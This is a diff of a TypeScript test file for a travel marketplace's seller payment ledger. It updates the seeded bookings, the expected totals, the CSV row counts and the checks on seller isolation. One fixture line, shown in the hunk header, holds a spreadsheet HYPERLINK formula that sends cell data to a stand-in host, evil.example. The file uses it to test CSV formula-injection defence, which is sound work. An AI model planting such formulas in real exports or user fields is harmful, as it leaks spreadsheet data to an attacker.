@@ -29,12 +29,17 @@ const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
 /**
  * The seed's payments (worker/db/seed-data.ts, dated relative to the day it is laid): bk_w4 paid about ten months
  * ago, bk_w6 paid seven weeks ago and refunded four days later, bk_w7 paid two weeks ago and refunded by the
- * expiry. Refs and days come from the seed's calendar.
+ * expiry; the reviewers' trips with Wanderlust (bk_r1, bk_r2, bk_m1, bk_m2) and with Himalayan (bk_h2) paid
+ * between about four months and six weeks ago. Refs and days come from the seed's calendar.
  */
 const W4 = { ref: "", amount: 5_066_800, day: "" };
+/** Wanderlust's reviewers' trips as the seed priced them: Rahul's Goa (two, deluxe, sedan) and Jaipur, Meera's Goa and Jaipur. */
+const REVIEWERS_A = { bk_r1: 4_748_200, bk_r2: 1_327_400, bk_m1: 1_699_100, bk_m2: 1_327_400 } as const;
+/** bk_h2: Rahul's Kedarnath trek with Himalayan Trails, paid about three months ago. */
+const H2 = { ref: "", amount: 1_274_300 };
 const W6 = { ref: "", amount: 955_700, paidDay: "", refundDay: "" };
 /** bk_w7: paid two weeks ago, left unanswered and refunded by the 48-hour expiry. */
-const W7 = { ref: "" };
+const W7 = { ref: "", amount: 5_522_200 };
 /** A stored instant as a day in India (YYYY-MM-DD) and as the CSV writes it (dd/mm/yyyy). */
 const dayInIndia = (iso: string) => todayInIndia(new Date(iso));
 const csvDay = (day: string) => day.split("-").reverse().join("/");
@@ -59,6 +64,7 @@ beforeAll(async () => {
   Object.assign(W4, { ref: bookings.bk_w4.ref, day: dayInIndia(payments.bk_w4.capturedAt) });
   const refunded = payments.bk_w6.refund?.processedAt ?? "";
   W7.ref = bookings.bk_w7.ref;
+  H2.ref = bookings.bk_h2.ref;
   Object.assign(W6, { ref: bookings.bk_w6.ref, paidDay: dayInIndia(payments.bk_w6.capturedAt), refundDay: dayInIndia(refunded) });
   [sellerA, sellerB, customer] = await Promise.all([loginViaApi(w, SELLER_A), loginViaApi(w, SELLER_B), newCustomer(w, "ledger")]);
   // Customer names are user input: this one is a spreadsheet formula.
@@ -129,8 +135,16 @@ describe("each seller's share of one checkout", () => {
     expect(b.data.map((e) => [e.kind, e.bookingId, e.amount, e.status])).toEqual([
       ["refund", paid.b.id, -paid.b.total, "refunded"],
       ["payment", paid.b.id, paid.b.total, "received"],
+      ["payment", "bk_h2", H2.amount, "received"],
     ]);
     expect(b.data[1].packageName).toBe("Spiti Valley Road Trip");
+    // The seed's own paid trip with seller B: Rahul's trek, with its captured payment's reference.
+    expect(b.data[2]).toMatchObject({
+      bookingRef: H2.ref,
+      packageName: "Kedarnath Trek",
+      customerName: "Rahul Nair",
+      reference: "pay_seed_bk_h2",
+    });
   });
 
   it("shows a rejection's refund as a refund entry, with its reason and the provider's refund id", async () => {
@@ -167,21 +181,23 @@ describe("each seller's share of one checkout", () => {
       "SELECT coalesce(sum(amount), 0) AS n FROM refunds WHERE seller_id = ? AND status = 'processed'",
       "s_wanderlust",
     );
-    expect(received).toBeGreaterThanOrEqual(W4.amount + W6.amount + paid.a.total);
+    const reviewers = Object.values(REVIEWERS_A).reduce((x, y) => x + y, 0);
+    expect(received).toBe(W4.amount + W6.amount + W7.amount + reviewers + paid.a.total);
+    expect(refunded).toBe(W6.amount + W7.amount);
     expect(a.totals).toEqual({ received, refunded, net: received - refunded, refundPending: 0 });
-    // Every payment share and every refund of seller A, counted in the tables: the seed's bk_w4, bk_w6 and bk_w7
-    // payments, bk_w6's and bk_w7's refunds, and this file's checkout.
+    // Every payment share and every refund of seller A, counted in the tables: the seed's bk_w4, bk_w6, bk_w7 and
+    // four reviewers' payments, bk_w6's and bk_w7's refunds, and this file's checkout.
     const entries =
       (await sum(
         "SELECT count(*) AS n FROM payment_items i JOIN payments p ON p.id = i.payment_id WHERE i.seller_id = ? AND p.status = 'captured'",
         "s_wanderlust",
       )) + (await sum("SELECT count(*) AS n FROM refunds WHERE seller_id = ?", "s_wanderlust"));
-    expect(entries).toBe(6);
+    expect(entries).toBe(10);
     expect(a.pagination.total).toBe(entries);
     expect(a.data).toHaveLength(entries);
 
     const b = await ledger(sellerB);
-    expect(b.totals).toEqual({ received: paid.b.total, refunded: paid.b.total, net: 0, refundPending: 0 });
+    expect(b.totals).toEqual({ received: paid.b.total + H2.amount, refunded: paid.b.total, net: H2.amount, refundPending: 0 });
   });
 });
 
@@ -203,9 +219,13 @@ describe("filters", () => {
     });
     const w4 = await ledger(sellerA, `?from=${W4.day}&to=${W4.day}`);
     expect(w4.data.map((e) => [e.kind, e.bookingRef, e.amount])).toEqual([["payment", W4.ref, W4.amount]]);
-    // A range of more than two months is charted by month.
-    const months = [W4.day, W6.paidDay, W6.refundDay].map((d) => d.slice(0, 7));
-    expect((await ledger(sellerA, `?from=${W4.day}&to=${W6.refundDay}`)).chart.points.map((p) => p.period)).toEqual([...new Set(months)]);
+    // A range of more than two months is charted by month: the months with entries, bk_m2's (paid after the range) not.
+    const { payments } = w.seed;
+    const reviewerDays = (["bk_r1", "bk_r2", "bk_m1"] as const).map((id) => dayInIndia(payments[id].capturedAt));
+    const months = [W4.day, ...reviewerDays, W6.paidDay, W6.refundDay].map((d) => d.slice(0, 7)).sort();
+    const long = await ledger(sellerA, `?from=${W4.day}&to=${W6.refundDay}`);
+    expect(long.chart.points.map((p) => p.period)).toEqual([...new Set(months)]);
+    expect(long.totals.received).toBe(W4.amount + REVIEWERS_A.bk_r1 + REVIEWERS_A.bk_r2 + REVIEWERS_A.bk_m1 + W6.amount);
   });
 
   it("puts a payment captured at 00:30 in India on that Indian day, not on the UTC one before it", async () => {
@@ -224,7 +244,10 @@ describe("filters", () => {
   it("filters by status, while the totals keep covering the whole range", async () => {
     const all = await ledger(sellerB);
     const received = await ledger(sellerB, "?status=received");
-    expect(received.data.map((e) => e.kind)).toEqual(["payment"]);
+    expect(received.data.map((e) => [e.kind, e.bookingId])).toEqual([
+      ["payment", paid.b.id],
+      ["payment", "bk_h2"],
+    ]);
     expect(received.totals).toEqual(all.totals);
     expect((await ledger(sellerB, "?status=refund-pending")).data).toEqual([]);
     const a = await ledger(sellerA, "?status=refunded");
@@ -317,7 +340,9 @@ describe("isolation and roles", () => {
     "Munnar Tea Trails",
     "Rishikesh Yoga and Rafting",
     "pay_seed_bk_w4",
+    "pay_seed_bk_r1",
     "Asha Verma",
+    "Meera Iyer",
   ];
 
   it("never shows seller B seller A's rows: not in the JSON, the CSV or the page, whatever the query names", async () => {
@@ -331,10 +356,12 @@ describe("isolation and roles", () => {
     expect(json.body.data.map((e: Entry) => [e.kind, e.bookingId])).toEqual([
       ["refund", paid.b.id],
       ["payment", paid.b.id],
+      ["payment", "bk_h2"],
     ]);
     const { res, text: csv } = await csvOf(sellerB, "?sellerId=s_wanderlust");
     expect(res.status).toBe(200);
-    expect(csv.split("\r\n").filter(Boolean)).toHaveLength(3);
+    // The header and seller B's three entries.
+    expect(csv.split("\r\n").filter(Boolean)).toHaveLength(4);
     const fromPage = await csvOf(sellerB, "?sellerId=s_wanderlust&seller_id=s_wanderlust", PAGE_CSV);
     expect(fromPage.res.status).toBe(200);
     expect(fromPage.text).toBe(csv);
